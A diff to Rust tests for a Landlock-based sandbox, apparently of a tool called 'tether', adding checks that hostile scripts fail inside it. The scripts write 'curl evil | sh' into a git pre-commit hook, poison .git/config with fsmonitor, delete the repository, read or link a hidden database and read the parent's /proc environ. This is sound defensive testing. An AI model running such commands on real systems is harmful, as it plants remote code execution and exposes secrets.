@@ -185,7 +185,10 @@ fn a_kernel_without_landlock_or_signal_scoping_is_refused_by_name() {
     let t = trees();
     for (abi, feature) in [(0, "Landlock (Linux 5.13"), (5, "signal scoping")] {
         let err = policy(&t)
-            .prepare(Support { landlock_abi: abi })
+            .prepare(Support {
+                landlock_abi: abi,
+                namespaces: true,
+            })
             .unwrap_err();
         assert!(matches!(err, SandboxError::Unsupported { .. }));
         let message = err.to_string();
@@ -210,4 +213,52 @@ fn this_kernel_enforces_the_whole_policy() {
     // CI and development machines must run the sandbox for real; a kernel that cannot is a
     // failure here, not a skipped test.
     Support::probe().check().unwrap();
+}
+
+#[test]
+fn git_stays_read_only_and_the_state_hidden_inside_a_writable_tree() {
+    let t = trees();
+    std::fs::create_dir_all(t.work.join(".git/hooks")).unwrap();
+    std::fs::write(t.work.join(".git/config"), "[core]\n").unwrap();
+    std::fs::create_dir_all(t.work.join(".tether")).unwrap();
+    std::fs::write(t.work.join(".tether/tether.db"), "store").unwrap();
+    let p = policy(&t)
+        .read_only(t.work.join(".git"))
+        .hide(t.work.join(".tether"));
+    for script in [
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "echo '[core] fsmonitor = evil' >> .git/config",
+        "rm -r .git",
+        "mv .git elsewhere",
+        "cat .tether/tether.db",
+        "ln .tether/tether.db stolen",
+        "umount .tether",
+        "umount .git",
+    ] {
+        let out = run(&p, &t.work, script);
+        assert!(!ok(&out), "`{script}` worked: {}", says(&out));
+    }
+    assert_eq!(
+        std::fs::read_to_string(t.work.join(".git/config")).unwrap(),
+        "[core]\n"
+    );
+    assert!(!t.work.join(".git/hooks/pre-commit").exists());
+    // The git directory is still readable, and the rest of the tree writable.
+    let out = run(&p, &t.work, "cat .git/config && echo new > top-level-file");
+    assert!(ok(&out), "{}", says(&out));
+    assert_eq!(
+        std::fs::read_to_string(t.work.join("top-level-file")).unwrap(),
+        "new\n"
+    );
+}
+
+#[test]
+fn the_parents_environment_cannot_be_read_through_proc() {
+    let t = trees();
+    let me = std::process::id();
+    let out = run(&policy(&t), &t.work, &format!("cat /proc/{me}/environ"));
+    assert!(!ok(&out), "read tether's environment: {}", says(&out));
+    // Its own is there as usual.
+    let out = run(&policy(&t), &t.work, "cat /proc/self/environ");
+    assert!(ok(&out), "{}", says(&out));
 }
